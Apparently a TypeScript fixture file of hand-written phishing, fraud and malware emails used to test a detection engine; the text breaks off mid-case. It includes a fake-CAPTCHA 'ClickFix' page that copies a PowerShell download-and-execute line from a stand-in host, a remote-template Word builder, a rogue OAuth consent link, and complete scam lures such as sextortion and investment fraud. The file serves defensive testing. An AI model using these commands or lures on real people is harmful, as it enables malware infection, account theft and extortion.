// A third blind batch of hand-written phishing, fraud and malware (2024–2026), written without
// reading the detection code, to measure the engine on mail nobody tuned it to. Its weight is
// on what the first two batches left out: "ClickFix" fake CAPTCHAs, OAuth consent to a rogue
// app, MFA re-enrolment look-alikes, real platforms abused (Canva, Adobe, QuickBooks, Google
// Forms, Notion), Amazon SES and Brevo accounts, toll roads, utilities, marketplace "buyer has
// paid" tricks, Wero and iDEAL changes, recovery scams, QR codes inside PDFs, remote-template
// documents, APK and HTA droppers, and sextortion naming the reader's password or home.
// Criminal infrastructure uses invented names and documentation IP ranges; real brand domains
// appear only where the brand's own service is abused or spoofed.

import { docx, pdf, qrGrey, relationships, textPdf, zip } from './formats-builders.ts';
import { attachment, document, gmailBody, LIST_UNSUBSCRIBE_POST, mail, multipart, plain } from './mail-builder.ts';
import type { PhishingCase } from './phishing-mail-cases.ts';

/** A one-page PDF with lines of text above a QR code drawn as an image, as quishing PDFs carry it. */
function qrPdf(lines: readonly string[], url: string): Uint8Array {
  const { side, pixels: grey } = qrGrey(url, 4);
  const pixels = Buffer.from(grey).toString('latin1');
  const text = `BT /F1 11 Tf 50 790 Td 15 TL ${lines.map((line) => `(${line.replace(/[()\\]/g, '\\$&')}) '`).join(' ')} ET q 200 0 0 200 50 380 cm /Im0 Do Q`;
  return pdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> /XObject << /Im0 6 0 R >> >> /Contents 5 0 R >>',
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
      `<< /Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8 /Length ${pixels.length} >>\nstream\n${pixels}\nendstream`,
    ],
    '<< /Root 1 0 R /Info << /Producer (Microsoft: Print To PDF) >> >>',
  );
}

/** The fields Amazon SES adds to what an account sends (region us-east-1 or eu-west-1). */
export function sesHeaders(region: string, feedback: string, outgoing: string): readonly string[] {
  return [`Feedback-ID: ${feedback}:${region}:AmazonSES`, `X-SES-Outgoing: ${outgoing}`];
}

/** Brevo's (ex-Sendinblue) campaign fields: its own Message-ID host, EID and unsubscribe link. */
export function brevoHeaders(account: string, eid: string): readonly string[] {
  return [
    `List-Unsubscribe: <https://${account}.r.af.d.sendibt2.com/tr/un/li/${eid}>, <mailto:unsubscribe-${eid}@unsubscribe.brevo.com>`,
    LIST_UNSUBSCRIBE_POST,
    `X-Mailin-EID: ${eid}`,
    `Feedback-ID: ${account}:brevo`,
    'X-Mailer: Brevo',
  ];
}

/** A "ClickFix" page: a fake CAPTCHA that copies a PowerShell one-liner and tells the reader to paste it into Run. */
function clickFixPage(title: string, command: string, steps: readonly string[]): string {
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body style="font-family:Roboto,Arial;background:#f9f9f9">
<div style="width:300px;margin:80px auto;border:1px solid #d3d3d3;padding:16px;background:#fff"><label><input type="checkbox" onclick="v()"> I'm not a robot</label><div style="font-size:10px;color:#555">reCAPTCHA · Privacy - Terms</div></div>
<div id="s" style="display:none;width:420px;margin:0 auto"><b>Verification steps</b><ol>${steps.map((step) => `<li>${step}</li>`).join('')}</ol></div>
<script>function v(){navigator.clipboard.writeText(${JSON.stringify(command)});document.getElementById("s").style.display="block";}</script>
</body></html>`;
}

/** A Word document whose settings part loads its template from the attacker's server (template injection). */
function remoteTemplateDocx(templateUrl: string): Uint8Array {
  return docx({
    'word/_rels/settings.xml.rels': relationships([
      { type: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate', target: templateUrl, external: true },
    ]),
    'word/settings.xml':
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
  });
}

export const THIRD_CASES: readonly PhishingCase[] = [
  // ---------------------------------------------------------------- English
  {
    // The 2024–2025 ClickFix wave against hotels: a "guest complaint" with an HTML file that
    // shows a fake CAPTCHA, copies a PowerShell downloader and tells the reader to paste it
    // into the Run box. No link in the mail, no executable attached.
    name: 'Booking.com "guest complaint" to a hotel with a fake-CAPTCHA HTML file that has the reader paste PowerShell (ClickFix)',
    lang: 'en',
    lure: 'html-attachment',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'Booking.com Partner Support <partner-noreply@booking-partnerhub.sbs>',
      to: 'Front Desk <reservations@harbourviewinn.co.uk>',
      subject: 'Guest complaint #4471208 – response required within 24 hours',
      date: 'Wed, 5 Mar 2025 09:12:40 +0000',
      messageId: '20250305091240.7f3a1c@booking-partnerhub.sbs',
      dkim: ['booking-partnerhub.sbs:default'],
      relay: 'mail.booking-partnerhub.sbs [203.0.113.48]',
      auth: { dmarc: 'none' },
      body: multipart('mixed', [
        plain(
          "Dear partner,\n\nA guest who stayed at your property from 28 Feb to 2 Mar has filed a complaint about a charge on their card and cleanliness of the room. Under our partner terms you must respond within 24 hours or the review will be published and the amount refunded from your next payout.\n\nThe guest's message and photos are in the attached file. Open it in your browser and complete the verification to view them.\n\nKind regards,\nPartner Support\nBooking.com",
        ),
        attachment(
          'Guest_Complaint_4471208.html',
          'text/html',
          clickFixPage(
            'Booking.com | Guest complaint',
            'powershell -w 1 -ep bypass -c "iex (iwr -useb https://cdn-verify-guest.shop/v.ps1)" # I am not a robot - reCAPTCHA Verification ID: 4471208',
            ['Press Windows Button + R', 'Press CTRL + V', 'Press Enter'],
          ),
        ),
      ]),
    }),
  },
  {
    // Toll smishing moved to mail in 2025: an "E-ZPass" notice of a small unpaid balance sent
    // through a fresh Amazon SES account on a throw-away .xyz domain.
    name: 'E-ZPass "unpaid toll of $6.85, $50 late fee tomorrow" through Amazon SES from a .xyz domain',
    lang: 'en',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'E-ZPass Customer Service <notice@ezpass-tollservices.xyz>',
      to: 'brian.kowalski@yahoo.com',
      subject: 'Final notice: unpaid toll balance on your account',
      date: 'Mon, 14 Apr 2025 15:33:08 +0000',
      messageId: '010001962da8e3f1-9b2c7a4e-5d1f-4e8a-b3c6-7f0e2d9a1b45-000000@email.amazonses.com',
      dkim: ['ezpass-tollservices.xyz:x3k7sd2lq9', 'amazonses.com:224i4yxa5dv7c2xz3womw6peuasteono'],
      returnPath: '010001962da8e3f1-9b2c7a4e-5d1f-4e8a-b3c6-7f0e2d9a1b45-000000@amazonses.com',
      relay: 'a8-33.smtp-out.amazonses.com [54.240.8.33]',
      headers: sesHeaders('us-east-1', '1.us-east-1.Zq7pX3mV9kT2rL5wN8cB1hY4dF6gJ0sA=', '2025.04.14-54.240.8.33'),
      body: document([
        { heading: 'Unpaid toll notice' },
        'Our records show an unpaid toll of $6.85 on your vehicle from a trip on March 29, 2025.',
        {
          rows: [
            ['Notice number', 'EZ-0729-55183'],
            ['Amount due', '$6.85'],
            ['Due date', 'April 15, 2025'],
          ],
        },
        'To avoid a late fee of $50.00 and a hold on your vehicle registration, please pay the balance by the due date.',
        { button: 'Pay now', href: 'https://ezpass-tollservices.xyz/pay?n=EZ072955183' },
        { small: 'E-ZPass Customer Service Center. This is an automated message; please do not reply.' },
      ]),
    }),
  },
  {
    // Intuit's own invoicing abused: a QuickBooks account named after a security brand sends a
    // real invoice from notification.intuit.com; the only lure is the phone number in the memo.
    name: 'Real QuickBooks invoice from a seller called "Norton Renewal Dept": $399.99 auto-renewal, call to dispute',
    lang: 'en',
    lure: 'callback',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Norton Renewal Dept <quickbooks@notification.intuit.com>',
      to: 'patricia.lindgren@comcast.net',
      replyTo: 'nortonbilling.dept@outlook.com',
      subject: 'Invoice 10482 from Norton Renewal Dept',
      date: 'Thu, 23 Jan 2025 20:41:17 +0000',
      messageId: '1472608819.3340117.1737664877120@qbo-notify-prd-use2-7b9c4.intuit.com',
      dkim: ['notification.intuit.com:s1'],
      returnPath: 'bounce-qbo-93a1c7e4@notification.intuit.com',
      relay: 'mail-use2.notification.intuit.com [206.108.40.21]',
      body: document([
        { heading: 'Norton Renewal Dept' },
        'Dear Customer,',
        "Here's your invoice! We appreciate your prompt payment.",
        {
          rows: [
            ['Invoice no.', '10482'],
            ['Due date', '01/24/2025'],
            ['Balance due', '$399.99'],
          ],
        },
        'Message from Norton Renewal Dept: Your Norton 360 Total Protection (5 devices) has been auto-renewed for 3 years and $399.99 will be charged to your card on file today. If you did not authorize this renewal or want a refund, call our billing department at +1 (808) 745-3391 within 24 hours. Do not pay online.',
        {
          button: 'Review and pay',
          href: 'https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-2b7e9c1a4f3d8e60a5b2c7d9e1f3a4b8c6d0e2f5a7b9c1d3e5f7a9b1c3d5e7f9?locale=en_US&cta=viewinvoicenow',
        },
        { small: 'Norton Renewal Dept · Powered by QuickBooks. © Intuit Inc. All rights reserved. Privacy | Security | Terms of Service' },
      ]),
    }),
  },
  {
    // Consent phishing: the link is Microsoft's real sign-in page, but it asks the reader to
    // grant a rogue multi-tenant app offline access to mail and files. Sent from a compromised
    // law firm's Microsoft 365 tenant, so SPF, DKIM and DMARC all pass.
    name: 'Compromised law firm shares "Settlement_Agreement.pdf" through an OAuth consent link for a rogue app',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Rachel Whitmore <rwhitmore@whitmorecaldwell-law.com>',
      to: 'Jason Pruitt <jpruitt@summitridgebuilders.com>',
      subject: 'Settlement agreement – signed copy for your records',
      date: 'Tue, 10 Jun 2025 16:04:55 +0000',
      messageId: 'SA1PR04MB8833A1C7E2F9B4D06C3E5F1A9B2D4@SA1PR04MB8833.namprd04.prod.outlook.com',
      dkim: ['whitmorecaldwell-law.com:selector1'],
      relay: 'mail-dm6nam12on2104.outbound.protection.outlook.com [40.107.243.104]',
      headers: ['X-MS-Exchange-Organization-AuthAs: Internal', 'Thread-Topic: Settlement agreement – signed copy for your records'],
      body: document([
        'Hi Jason,',
        "Please find the countersigned settlement agreement shared via our secure document portal. You'll be asked to sign in with your Microsoft 365 account and accept the viewer permissions to open it.",
        {
          button: 'View Settlement_Agreement.pdf',
          href: 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=7c4e2a91-3b8d-4f6e-a1c5-9d0b2e7f4a36&response_type=code&redirect_uri=https%3A%2F%2Fsecure-docview.cfd%2Fauth%2Fcallback&scope=offline_access%20Mail.ReadWrite%20Mail.Send%20Files.ReadWrite.All%20User.Read&prompt=consent&state=jpruitt',
        },
        'Best regards,\nRachel Whitmore\nParalegal | Whitmore Caldwell LLP\n1400 Peachtree St NE, Suite 900, Atlanta, GA 30309',
      ]),
    }),
  },
  {
    // Scattered-Spider-style: an "IT" notice that the reader's Okta Verify must be re-enrolled,
    // pointing to a look-alike of the company's own Okta tenant.
    name: "Okta Verify re-enrolment notice pointing to a look-alike of the company's Okta tenant",
    lang: 'en',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'IT Service Desk <it-servicedesk@corvant-sso.com>',
      to: 'Megan Doyle <megan.doyle@corvant.com>',
      subject: 'Action required: re-enroll Okta Verify by end of day',
      date: 'Thu, 18 Sep 2025 13:27:02 -0400',
      messageId: '68cc4f0e.1c69fb81.7a3d.2b91@corvant-sso.com',
      dkim: ['corvant-sso.com:google'],
      relay: 'mail-ej1-f52.google.com [209.85.218.52]',
      auth: { dmarc: 'none' },
      body: document([
        'Hi Megan,',
        'As part of the migration to phishing-resistant MFA, all Okta Verify enrolments made before August 2025 are being reset today. Your current factor will stop working at 6:00 PM ET.',
        'Please re-enroll now so you are not locked out of Workday, Salesforce and VPN:',
        { button: 'Re-enroll Okta Verify', href: 'https://corvant-okta.com/signin/enroll?user=megan.doyle' },
        'If you have trouble, reply to this email or call the Service Desk at ext. 4357.',
        'Thanks,\nCorvant IT Service Desk',
      ]),
    }),
  },
  {
    // Canva's genuine share mail: canva.com signs, the link opens a real Canva design whose one
    // button leads to the credential page. The lure is the design title and the sharer's note.
    name: 'Real Canva share of a design titled "Remittance Advice – View Secure Document" from a hijacked vendor account',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Dana Kessler via Canva <no-reply@canva.com>',
      to: 'accounts@brightlinelogistics.com',
      replyTo: 'dana.kessler@kesslerfreight.com',
      subject: 'Dana Kessler shared "Remittance Advice – View Secure Document" with you',
      date: 'Fri, 7 Feb 2025 17:52:30 +0000',
      messageId: '0100019488a3c2d1-6e2f7b9a-3c41-4d8e-a5b7-1f9c2e4d6a80-000000@email.amazonses.com',
      dkim: ['canva.com:s2', 'amazonses.com:224i4yxa5dv7c2xz3womw6peuasteono'],
      returnPath: '0100019488a3c2d1-6e2f7b9a-3c41-4d8e-a5b7-1f9c2e4d6a80-000000@mail.canva.com',
      relay: 'a48-112.smtp-out.amazonses.com [54.240.48.112]',
      headers: sesHeaders('us-east-1', '1.us-east-1.Pk3Vx8Lm2Tz7Rb4Wn9Qc5Hd1Fj6As0Gy=', '2025.02.07-54.240.48.112'),
      body: document([
        { image: 'https://static.canva.com/emails/canva-logo.png', alt: 'Canva' },
        { heading: 'Dana Kessler shared a design with you' },
        '“Hi, please see the attached remittance advice for invoices 2291–2297. Click the button on the page to view the secure document with your email account.”',
        {
          button: 'Open design',
          href: 'https://www.canva.com/design/DAGd8kLq2Rz/7vXbT3mN1pQw9YcK4hF6sA/view?utm_content=DAGd8kLq2Rz&utm_campaign=designshare&utm_medium=link&utm_source=sharebutton',
        },
        { small: 'Canva, 110 Kippax St, Surry Hills NSW 2010, Australia. You received this email because Dana Kessler shared a design with you.' },
      ]),
    }),
  },
  {
    // A meeting invitation whose "join" page says the Zoom client is out of date and serves an
    // installer (a remote-access tool) from the look-alike host.
    name: 'Zoom "you are invited to a scheduled meeting" whose join link serves a fake client update',
    lang: 'en',
    lure: 'malware',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'Zoom <no-reply@zoom-meetings-invite.icu>',
      to: 'Tom Whitaker <tom.whitaker@larkspurfinancial.com>',
      subject: 'Tom, you are invited to a Zoom meeting: Q2 Budget Review',
      date: 'Tue, 22 Apr 2025 11:08:19 +0000',
      messageId: 'ZmInv.8f2a1c7e9b3d@zoom-meetings-invite.icu',
      relay: 'vps-31.zoom-meetings-invite.icu [198.51.100.77]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document([
        'Hi Tom,',
        'Laura Benson is inviting you to a scheduled Zoom meeting.',
        {
          rows: [
            ['Topic', 'Q2 Budget Review'],
            ['Time', 'Apr 22, 2025 02:00 PM Eastern Time (US and Canada)'],
            ['Meeting ID', '842 7731 0945'],
            ['Passcode', '551902'],
          ],
        },
        { button: 'Join Zoom Meeting', href: 'https://zoom-meetings-invite.icu/j/84277310945?pwd=Q2bR7mX1vN' },
        'If the meeting does not open, download and install the latest Zoom Workplace client from the join page first.',
        { small: 'Copyright ©2025 Zoom Communications, Inc. All rights reserved.' },
      ]),
    }),
  },
  {
    // HR-themed quishing: a year-end bonus letter as a PDF whose only way forward is a QR code,
    // so the phone (outside the company's protection) opens the credential page.
    name: 'HR "2025 bonus and benefits statement" as a PDF holding a QR code, from a compromised payroll vendor',
    lang: 'en',
    lure: 'qr-code',
    expect: ['phishing'],
    raw: mail({
      from: 'HR Benefits <benefits@paycrestpartners.com>',
      to: 'Lisa Romero <lisa.romero@meridianhealthgroup.org>',
      subject: 'Your 2025 Year-End Bonus & Benefits Statement',
      date: 'Mon, 8 Dec 2025 08:15:44 -0600',
      messageId: 'CH3PR11MB7412F0A9C1E7D3B52A8F4C6E1D9B0@CH3PR11MB7412.namprd11.prod.outlook.com',
      dkim: ['paycrestpartners.com:selector2'],
      relay: 'mail-bn8nam12on2119.outbound.protection.outlook.com [40.107.237.119]',
      body: multipart('mixed', [
        plain(
          'Hello Lisa,\n\nYour 2025 year-end bonus and benefits statement is ready. Please review the attached document and acknowledge it by December 12 so the bonus is included in your next payroll.\n\nHR Benefits Team',
        ),
        attachment(
          'Bonus_Benefits_Statement_2025_LRomero.pdf',
          'application/pdf',
          qrPdf(
            [
              'Meridian Health Group - Human Resources',
              '2025 Year-End Bonus and Benefits Statement',
              'Employee: Lisa Romero',
              'Your statement is protected. Scan the QR code with your phone camera',
              'and sign in with your Microsoft 365 account to view and acknowledge it.',
              'Statements not acknowledged by December 12 will be processed in January.',
            ],
            'https://meridianhealth-benefits.pages.dev/?e=bGlzYS5yb21lcm9AbWVyaWRpYW5oZWFsdGhncm91cC5vcmc=',
          ),
        ),
      ]),
    }),
  },
  {
    // The 2024 sextortion wave that names the reader, quotes an old leaked password and
    // attaches a "picture of your house" (a PDF) to prove it knows where the reader lives.
    name: 'Sextortion quoting the reader\'s leaked password and home street, with a "photo of your house" PDF',
    lang: 'en',
    lure: 'sextortion',
    expect: ['fraud'],
    raw: mail({
      from: 'Kevin Adams <qtmlwxbrs_9912@outlook.com>',
      to: 'Steven Carlisle <scarlisle1972@gmail.com>',
      subject: 'Steven, I know about Maple Hollow Drive',
      date: 'Sat, 15 Jun 2024 04:51:26 +0000',
      messageId: 'DB9PR08MB6539E2F8A1C4B7D03E6F9A2C5B1D8@DB9PR08MB6539.eurprd08.prod.outlook.com',
      dkim: ['outlook.com:selector1'],
      relay: 'mail-db8eur05olkn2082.outbound.protection.outlook.com [40.92.89.82]',
      body: multipart('mixed', [
        plain(
          "Steven,\n\nI know that calling 555-0143 or visiting 1187 Maple Hollow Drive would be a convenient way to reach you if you don't act. Nice place, by the way. Is that your blue Honda in the driveway?\n\nYour password is still Carlisle1972! - yes, I have been inside your devices for months. I installed software on the adult sites you visit and your camera recorded you while you were watching. I have the video side by side with what you were watching.\n\nYou have one way out. Send exactly $1950 in Bitcoin to this address:\nbc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n\nYou have 24 hours from opening this email. I have a tracking pixel, I know when you read it. If I don't get the payment, the video goes to your wife, your colleagues and your Facebook friends. If I do, I delete everything and you never hear from me again.\n\nDon't reply, this address is not monitored. Don't go to the police, it won't help you.",
        ),
        attachment(
          'Steven_Carlisle.pdf',
          'application/pdf',
          textPdf([
            'Steven Carlisle',
            '1187 Maple Hollow Drive, Fairview, TN 37062',
            '[Street View photo of the house]',
            'Payment instructions: 1950 USD in Bitcoin to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh',
          ]),
        ),
      ]),
    }),
  },
  {
    // Pig-butchering by mail: a "wrong recipient" opener that slides into a mentor's gold and
    // crypto "AI arbitrage" platform, with a first deposit and a throw-away .top site.
    name: 'Investment "mentor" from Gmail: my AI gold-arbitrage account made 38% this month, open yours with $500',
    lang: 'en',
    lure: 'crypto',
    expect: ['fraud'],
    raw: mail({
      from: 'Vivian Chen <vivianchen.wealth88@gmail.com>',
      to: 'mark.ellison62@yahoo.com',
      subject: 'Re: dinner on Saturday?',
      date: 'Sun, 2 Nov 2025 22:14:07 +0800',
      messageId: 'CAJx8Ld5Rk2mT7vP9Qw3nZb1Yc4Hf6Gs0Ae@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-pl1-f178.google.com [209.85.214.178]',
      body: gmailBody(
        "Hi Mark,\n\nSorry, I think I wrote to the wrong address last week – I was inviting my cousin to dinner! But it was nice to read your kind reply. I'm Vivian, I live in Seattle and I work in wine import, and in my free time I trade gold and crypto with my uncle, who is an analyst in Hong Kong.\n\nThis month his AI arbitrage strategy made 38% on my account, I withdrew $12,600 last Tuesday. Since you were so polite, I can share it with you. You only need to open an account on the platform he uses and make a first deposit of $500 in USDT, then I will send you the signals every day at 9 PM:\n\nhttps://aurumflex-trade.top/register?ref=VIV2288\n\nDon't tell too many people, the signal group is private. Add me on WhatsApp +1 206 555 0187 so we can talk more easily.\n\nVivian",
      ),
    }),
  },
  {
    // The "task" job scam: a recruiter from a real-sounding agency offers paid app-rating
    // tasks, moved to Telegram, where the "trainee" is later asked to top up in crypto.
    name: 'Recruiter offers $150–$600 a day for "app optimization tasks", contact on Telegram, no experience needed',
    lang: 'en',
    lure: 'job',
    expect: ['fraud'],
    raw: mail({
      from: 'Ashley Turner | Talent Acquisition <ashley.turner.hiring@hotmail.com>',
      to: 'jordan.price.97@gmail.com',
      subject: 'Flexible remote position – your profile was shortlisted',
      date: 'Wed, 21 May 2025 15:40:12 +0000',
      messageId: 'PH7PR17MB6120C8E1A9F3B5D72E4C0A6F8B2D1@PH7PR17MB6120.namprd17.prod.outlook.com',
      dkim: ['hotmail.com:selector1'],
      relay: 'mail-mw2nam12olkn2033.outbound.protection.outlook.com [40.92.23.33]',
      body: plain(
        "Hello Jordan,\n\nI'm Ashley from Apex Talent Partners. Your resume was shortlisted for a flexible remote position with one of our clients, a digital marketing agency that helps apps rank higher in the app stores.\n\nThe work: complete 40 app optimization tasks per day (rating and reviewing apps in the client's system), about 60–90 minutes a day from your phone.\nPay: $150–$600 per day plus commission, paid daily. Weekly bonus for 5 consecutive working days.\nNo experience needed, free training provided by a personal mentor.\n\nIf you are interested, please contact our HR coordinator on Telegram: @ApexHR_Melissa and mention code AT-1187. Applicants must be 22 or older.\n\nBest regards,\nAshley Turner\nSenior Recruiter, Apex Talent Partners",
      ),
    }),
  },
  {
    // Classic advance fee in its 2025 dress: a "private banker" with a dormant account of a
    // deceased client who shares the reader's surname; the fee comes later.
    name: 'Private banker in London: a deceased client with your surname left £7.4 million, act as next of kin',
    lang: 'en',
    lure: 'advance-fee',
    expect: ['fraud'],
    raw: mail({
      from: 'Mr. Edward Hollis <edward.hollis@privatebanking-chambers.co>',
      to: 'gregory.fenwick@btinternet.com',
      replyTo: 'e.hollis.chambers@proton.me',
      subject: 'Confidential: estate of the late Mr. Harold Fenwick',
      date: 'Tue, 9 Sep 2025 06:22:51 +0100',
      messageId: '20250909052251.4a7c1e9f@privatebanking-chambers.co',
      relay: 'smtp.privatebanking-chambers.co [192.0.2.141]',
      auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
      body: plain(
        'Dear Gregory Fenwick,\n\nI am Edward Hollis, senior account officer in private banking here in London. I am contacting you with utmost confidentiality regarding the dormant account of a late client, Mr. Harold Fenwick, an oil consultant who died intestate in 2021 together with his wife and only daughter.\n\nThe account holds GBP 7,400,000.00 (Seven Million, Four Hundred Thousand Pounds). Having searched for two years without success, the bank will transfer the funds to the Treasury as unclaimed if no next of kin comes forward by the end of this quarter.\n\nSince you share the same surname, I can present you as the beneficiary. All the legal documents will be prepared by our attorney, and the transaction is 100% risk free. We will share the funds 50/50.\n\nIf you are interested, reply to my private email e.hollis.chambers@proton.me with your full name, address, phone number and occupation.\n\nYours faithfully,\nEdward Hollis',
      ),
    }),
  },
  {
    // Reply-chain hijack (Qakbot/Pikabot lineage): a stolen thread answered from the real,
    // compromised mailbox with one line and a link to a ZIP on a hacked WordPress site.
    name: 'Stolen thread "RE: fixed asset schedule" answered with one line and a link to a ZIP on a hacked WordPress site',
    lang: 'en',
    lure: 'reply-thread',
    expect: ['malware', 'phishing'],
    todo: 'clean/none: auth_results_missing; a link whose path is an archive download (…/wp-content/uploads/…/FA_Schedule_2024.zip) is no signal at all, and a one-line reply over a quoted thread from the real, signed mailbox has nothing else to weigh',
    raw: mail({
      from: 'Carl Jennings <cjennings@tristatepallet.com>',
      to: 'Amy Rhodes <arhodes@northfieldcpa.com>',
      subject: 'RE: fixed asset schedule 2024',
      date: 'Thu, 27 Feb 2025 10:03:37 -0500',
      messageId: '000f01db8925$4c2e7a10$e48b6e30$@tristatepallet.com',
      dkim: ['tristatepallet.com:default'],
      relay: 'cpanel14.hostwinds-ns.net [192.0.2.88]',
      headers: [
        'In-Reply-To: <BN0PR04MB8031D2A7C4E9F1B36A5C8E0D2F7B4@BN0PR04MB8031.namprd04.prod.outlook.com>',
        'References: <BN0PR04MB8031D2A7C4E9F1B36A5C8E0D2F7B4@BN0PR04MB8031.namprd04.prod.outlook.com>',
        'X-Mailer: Microsoft Outlook 16.0',
      ],
      body: plain(
        'Hello,\n\nPlease review the updated file here: https://oakridgebakery-mn.com/wp-content/uploads/2025/02/FA_Schedule_2024.zip\n\nThank you\n\n-----Original Message-----\nFrom: Amy Rhodes <arhodes@northfieldcpa.com>\nSent: Tuesday, January 14, 2025 2:18 PM\nTo: Carl Jennings <cjennings@tristatepallet.com>\nSubject: RE: fixed asset schedule 2024\n\nHi Carl,\n\nThanks for sending the depreciation detail. Could you also send the additions for the new forklift and the roof repair so we can finish the 4562?\n\nAmy Rhodes, CPA\nNorthfield CPA Group',
      ),
    }),
  },
  {
    // IRS-themed identity phishing in refund season: an "online account" notice that the 2024
    // refund is held until the reader verifies identity on a fake ID.me page.
    name: 'IRS "refund on hold until you verify your identity with ID.me" from a .cfd domain, spoofed display name',
    lang: 'en',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'IRS Online Account <no-reply@irs-onlineservices.cfd>',
      to: 'ramon.delgado@aol.com',
      subject: 'Your 2024 federal tax refund of $1,284.00 is on hold',
      date: 'Fri, 28 Mar 2025 12:44:03 +0000',
      messageId: 'a91c7e3f2b8d4e60@irs-onlineservices.cfd',
      relay: 'mx-out2.irs-onlineservices.cfd [198.51.100.212]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document([
        { heading: 'Internal Revenue Service' },
        'Our records show that your 2024 federal income tax refund of $1,284.00 has been placed on hold because we could not verify your identity (Letter 5071C).',
        'To release your refund, verify your identity online with ID.me within 7 days. After that date, your return will be processed by mail, which may take up to 16 weeks.',
        { button: 'Verify with ID.me', href: 'https://irs-onlineservices.cfd/idme/verify?case=5071C-884120' },
        { small: 'Internal Revenue Service, 1111 Constitution Ave NW, Washington, DC 20224.' },
      ]),
    }),
  },
  // ---------------------------------------------------------------- Spanish
  {
    // Utility "duplicate charge" refunds ask for the full card to pay money back: a throw-away
    // .shop domain with the brand's name and a refund form.
    name: 'Iberdrola: reembolso de 86,42 € por un cobro duplicado, introducir la tarjeta en un dominio .shop',
    lang: 'es',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'Iberdrola Clientes <clientes@iberdrola-reembolsos.shop>',
      to: 'maria.jose.navarro@hotmail.es',
      subject: 'Tiene un reembolso pendiente de 86,42 €',
      date: 'Tue, 4 Feb 2025 10:27:51 +0100',
      messageId: '67a1dd27.5c3e9a10@iberdrola-reembolsos.shop',
      dkim: ['iberdrola-reembolsos.shop:mail'],
      relay: 'srv1.iberdrola-reembolsos.shop [203.0.113.91]',
      auth: { dmarc: 'none' },
      body: document(
        [
          { heading: 'Reembolso por cobro duplicado' },
          'Estimado/a cliente:',
          'Tras revisar su cuenta hemos detectado que la factura de diciembre de 2024 se le cargó dos veces. Tiene derecho a un reembolso de 86,42 €.',
          'Para recibir el importe, confirme la tarjeta en la que desea el abono antes de 72 horas. Pasado ese plazo, el reembolso se anulará.',
          { button: 'Solicitar reembolso', href: 'https://iberdrola-reembolsos.shop/es/clientes/reembolso?ref=IBD-2291-448' },
          { small: 'Iberdrola Clientes, S.A.U. · Este es un mensaje automático, por favor no responda.' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    // Second-hand marketplace fraud: the "buyer" pays through a fake Wallapop page where the
    // seller must enter the card to "receive" the money.
    name: 'Wallapop falso: "el comprador ya ha pagado, confirma tu tarjeta para recibir 180 €", desde un .cfd',
    lang: 'es',
    lure: 'payment-app',
    expect: ['phishing'],
    raw: mail({
      from: 'Wallapop <pagos@wallapop-envios.cfd>',
      to: 'Sergio Rubio <sergio.rubio.mtz@gmail.com>',
      subject: '¡Tu producto se ha vendido! El comprador ya ha pagado 180,00 €',
      date: 'Sat, 17 May 2025 19:02:33 +0200',
      messageId: 'd3c1a8f2-77e4-4b9c-8a2e-5f1d0c9b6e34@wallapop-envios.cfd',
      relay: 'mail.wallapop-envios.cfd [198.51.100.19]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: document(
        [
          { heading: '¡Enhorabuena, has vendido tu Bicicleta de carretera Orbea Avant!' },
          'El comprador ha pagado 180,00 € con Wallapop Envíos. El dinero está reservado y se te abonará en cuanto confirmes tus datos.',
          'Para recibir el pago, introduce los datos de la tarjeta en la que quieres el ingreso. Un mensajero recogerá el paquete mañana.',
          { button: 'Recibir 180,00 €', href: 'https://wallapop-envios.cfd/pago/recibir?item=983314772' },
          { small: 'Wallapop S.L. · Si no confirmas en 24 horas la venta se cancelará y el dinero volverá al comprador.' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    // Unemployment-benefit lure: the SEPE "suspends" the benefit unless the bank details are
    // re-entered; the link goes to a .top page copying the SEPE sede.
    name: 'SEPE: prestación por desempleo suspendida hasta actualizar los datos bancarios, enlace .top',
    lang: 'es',
    lure: 'authority',
    expect: ['phishing'],
    raw: mail({
      from: 'SEPE - Servicio Público de Empleo <notificaciones@sepe-prestaciones.top>',
      to: 'javier.ortega.g@yahoo.es',
      subject: 'Aviso: su prestación ha sido suspendida temporalmente',
      date: 'Mon, 3 Nov 2025 08:45:10 +0100',
      messageId: '20251103074510.91ac3@sepe-prestaciones.top',
      relay: 'vps8812.sepe-prestaciones.top [203.0.113.177]',
      auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
      body: document(
        [
          'Estimado/a ciudadano/a:',
